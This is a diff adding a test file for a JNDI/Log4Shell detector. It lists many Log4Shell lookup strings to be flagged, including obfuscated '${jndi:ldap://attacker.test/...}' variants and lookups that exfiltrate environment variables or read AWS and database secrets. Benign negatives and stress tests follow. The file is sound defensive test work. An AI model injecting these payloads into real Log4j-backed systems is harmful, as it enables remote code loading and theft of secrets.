@@ -1,0 +1,155 @@
+import t from 'tap';
+import { detectJndi } from '../../src/detectors/jndi';
+
+// Test vectors written for this project (not copied from any payload corpus).
+
+/** Each must be detected at confidence `high` with a `jndi.` rule. */
+const positives: string[] = [
+  '${jndi:ldap://attacker.test:1389/Exploit}',
+  '${jndi:ldaps://203.0.113.7/x}',
+  '${jndi:rmi://198.51.100.2:1099/obj}',
+  '${jndi:dns://probe.attacker.test}',
+  '${jndi:iiop://203.0.113.9/a}',
+  '${jndi:corba://203.0.113.9/a}',
+  '${jndi:nds://203.0.113.9/a}',
+  '${jndi:nis://203.0.113.9/a}',
+  '${jndi:http://attacker.test/a}',
+  '${JNDI:LDAP://attacker.test/a}',
+  '${JnDi:lDaP://attacker.test/a}',
+  'Mozilla/5.0 ${jndi:ldap://attacker.test/ua}',
+  'user=${jndi:ldap://attacker.test/${env:USER}}',
+  '${jndi:ldap://${sys:java.version}.attacker.test/v}',
+  '${jndi:ldap://${hostName}.attacker.test/h}',
+  '{"q": "${jndi:ldap://attacker.test/j}"}',
+  '<v attr="${jndi:ldap://attacker.test/xml}"/>',
+  // Nested obfuscation.
+  '${${lower:j}ndi:ldap://attacker.test/a}',
+  '${${lower:J}${lower:N}${lower:D}${lower:I}:ldap://attacker.test/a}',
+  '${${upper:j}ndi:${upper:l}dap://attacker.test/a}',
+  '${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://attacker.test/a}',
+  '${${::-j}ndi:rmi://attacker.test/a}',
+  '${${env:XYZ:-j}ndi:ldap://attacker.test/a}',
+  '${${env:NOPE:-j}${env:NOPE:-n}${env:NOPE:-d}${env:NOPE:-i}${env:NOPE:-:}ldap://attacker.test/a}',
+  '${${sys:none:-j}ndi:dns://attacker.test/a}',
+  '${${foo:bar:-j}ndi:ldap://attacker.test/a}',
+  "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://attacker.test/a}",
+  '${j${lower:N}di:ldap://attacker.test/a}',
+  '${jn${upper:d}i${lower::}ldap://attacker.test/a}',
+  '${${lower:${upper:j}}ndi:ldap://attacker.test/a}',
+  '${${lower:jndi}:${lower:ldap}://attacker.test/a}',
+  '${${lower:j}${lower:n}${lower:d}${upper:\u0131}:ldap://attacker.test/a}',
+  '$${::-${jndi:ldap://attacker.test/a}}',
+  '${x:-${jndi:ldap://attacker.test/a}}',
+  '${env:unset:-${env:unset:-$}{jndi:ldap://attacker.test/a}}',
+  // Unterminated (truncated) lookup still shows the intent.
+  '${jndi:ldap://attacker.test/a',
+  // Nested lookups assembling another lookup's name.
+  '${${lower:e}nv:AWS_SECRET_ACCESS_KEY}',
+  '${${::-s}ys:user.home}',
+];
+
+/** Sensitive lookups: medium. */
+const mediums: string[] = [
+  '${env:AWS_SECRET_ACCESS_KEY}',
+  '${env:USER}',
+  '${sys:user.name}',
+  '${ctx:loginId}',
+  '${main:0}',
+  '${bundle:application:db.password}',
+  '${java:version}',
+  '${docker:containerId}',
+  '${k8s:podName}',
+  '${spring:spring.datasource.password}',
+];
+
+/** Each must NOT be detected at `high`. */
+const negatives: string[] = [
+  'hello world',
+  '$5 & up',
+  '${price}',
+  'Total: ${order.total}',
+  '`Hello ${name}`',
+  '${HOME}/bin',
+  '${PATH}:${HOME}',
+  'The Log4Shell bug was about JNDI lookups.',
+  'jndi:ldap://example.com is a JNDI URL',
+  'Use ${lower:X} to lower-case in Log4j patterns',
+  'java:comp/env/jdbc/mydb',
+  '{"jndi": "ldap"}',
+  '${',
+  '${}',
+  '}{',
+  '${a${b${c}}}',
+  "${date:yyyy-MM-dd}",
+  "O'Brien",
+  'Tom & Jerry',
+  'https://example.com/path?x=1',
+  '${env:HOME}',
+  '${upper:abc}',
+  '$jndi:ldap://x',
+  '{jndi:ldap://x}',
+];
+
+t.test('JNDI lookups are detected at high confidence', async (t) => {
+  for (const v of positives) {
+    const d = detectJndi(v);
+    t.equal(d?.confidence, 'high', `high: ${JSON.stringify(v)} -> ${JSON.stringify(d)}`);
+    t.ok(d !== undefined && d.rule.startsWith('jndi.'), `rule prefix: ${JSON.stringify(v)}`);
+  }
+});
+
+t.test('sensitive lookups are medium', async (t) => {
+  for (const v of mediums) {
+    const d = detectJndi(v);
+    t.equal(d?.confidence, 'medium', `medium: ${JSON.stringify(v)} -> ${JSON.stringify(d)}`);
+    t.equal(d?.rule, 'jndi.sensitive-lookup');
+  }
+});
+
+t.test('benign values are not high', async (t) => {
+  for (const v of negatives) {
+    const d = detectJndi(v);
+    t.not(d?.confidence, 'high', `not high: ${JSON.stringify(v)} -> ${JSON.stringify(d)}`);
+  }
+  t.equal(detectJndi('${price}'), undefined);
+  t.equal(detectJndi('no lookups here'), undefined);
+});
+
+t.test('rules name the form', async (t) => {
+  t.equal(detectJndi('${jndi:ldap://a/b}')?.rule, 'jndi.lookup');
+  t.equal(detectJndi('${${lower:j}ndi:ldap://a/b}')?.rule, 'jndi.obfuscated-lookup');
+  t.equal(detectJndi('${${lower:e}nv:X}')?.rule, 'jndi.nested-lookup');
+  t.equal(detectJndi('${lower:ABC}')?.confidence, 'low');
+});
+
+t.test('reasons are short and do not echo the input', async (t) => {
+  const d = detectJndi('${jndi:ldap://' + 'a'.repeat(500) + '/x}');
+  t.equal(d?.confidence, 'high');
+  t.ok((d?.reason.length ?? 0) < 200);
+  t.notMatch(d?.reason ?? '', /a{40}/);
+});
+
+t.test('degenerate inputs never throw', async (t) => {
+  const odd = ['', '$', '${', '}', '${${', '${:-', '${::-', '${date:\'', '${lower:', '\ud800${jndi:', '${\u0000}', '${jndi:'];
+  for (const v of odd) t.doesNotThrow(() => detectJndi(v), JSON.stringify(v));
+});
+
+t.test('adversarial 1 MB inputs return without throwing', async (t) => {
+  const MB = 1 << 20;
+  const big: Record<string, string> = {
+    opens: '${'.repeat(MB / 2),
+    closes: '}'.repeat(MB),
+    nested: '${'.repeat(MB / 4) + 'x' + '}'.repeat(MB / 4),
+    defaults: '${::-'.repeat(MB / 5),
+    lowers: '${lower:'.repeat(MB / 8) + 'j' + '}'.repeat(MB / 8),
+    wide: '${' + 'x'.repeat(MB) + '}',
+    deepWide: '${'.repeat(40) + 'x'.repeat(MB) + '}'.repeat(40),
+    many: '${a}'.repeat(MB / 4),
+    dollars: '$'.repeat(MB),
+    surrogates: '${' + '\ud800'.repeat(MB) + '}',
+  };
+  for (const [name, v] of Object.entries(big)) {
+    t.doesNotThrow(() => detectJndi(v), name);
+  }
+  t.equal(detectJndi('x'.repeat(MB) + '${jndi:ldap://a/b}')?.confidence, 'high');
+});
